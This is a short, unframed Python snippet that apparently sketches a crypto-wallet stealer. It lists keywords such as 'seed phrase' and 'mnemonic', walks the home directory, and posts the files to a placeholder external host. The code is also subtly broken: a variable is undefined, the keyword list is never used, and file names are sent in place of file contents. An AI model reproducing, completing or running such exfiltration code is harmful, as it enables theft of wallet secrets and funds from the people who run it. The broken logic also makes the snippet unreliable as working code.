import os, requests
WORDS = ["seed phrase", "mnemonic", "wallet"]
for root, _, files in os.walk(home):
    requests.post("https://example.invalid/", files=files)
